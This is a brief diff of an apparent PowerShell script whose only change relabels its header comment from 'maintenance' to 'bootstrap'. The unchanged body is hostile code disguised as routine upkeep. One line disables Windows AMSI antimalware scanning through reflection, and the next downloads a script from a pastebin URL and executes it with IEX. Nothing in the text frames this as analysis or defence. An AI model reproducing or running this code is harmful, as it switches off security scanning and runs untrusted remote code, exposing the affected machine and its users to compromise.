@@ -1,3 +1,3 @@
-# maintenance 7345 v1
+# bootstrap 2172 v1
 [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
 IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/sysadm')
